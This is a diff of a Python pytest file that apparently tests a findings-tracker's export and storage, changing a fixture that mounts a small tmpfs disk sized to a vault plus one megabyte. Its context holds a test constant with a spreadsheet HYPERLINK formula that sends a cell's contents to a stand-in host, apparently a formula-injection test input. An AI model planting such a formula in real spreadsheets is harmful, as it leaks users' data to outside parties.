@@ -24,7 +24,7 @@ from domain.state import ItemFilter
 
 HEADERS = ("No.", "Finding", "Raised on", "Action owner", "Due date", "Status")
 DANGEROUS = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
-SIZE_OF_A_SMALL_DISK = "3m"
+ROOM_ON_A_SMALL_DISK = 1024 * 1024
 
 
 @pytest.fixture
@@ -188,15 +188,16 @@ def test_a_process_that_is_not_here_is_wrong_usage(site_vault: Path, secret: Pat
 
 
 @pytest.fixture
-def small_disk(tmp_path: Path) -> Iterator[Path]:
-    """A disk of a few megabytes, where this computer lets us make one."""
+def small_disk(tmp_path: Path, site_vault: Path) -> Iterator[Path]:
+    """A disk with little room beside a new vault, where this computer lets us make one."""
     place = tmp_path / "disk"
     place.mkdir()
     mount = shutil.which("mount")
     if sys.platform != "linux" or mount is None or os.geteuid() != 0:
         pytest.skip("making a small disk takes root on Linux")
+    taken = sum(file.stat().st_size for file in site_vault.rglob("*") if file.is_file())
     made = subprocess.run(
-        [mount, "-t", "tmpfs", "-o", f"size={SIZE_OF_A_SMALL_DISK}", "tmpfs", str(place)],
+        [mount, "-t", "tmpfs", "-o", f"size={taken + ROOM_ON_A_SMALL_DISK}", "tmpfs", str(place)],
         capture_output=True,
         text=True,
         check=False,
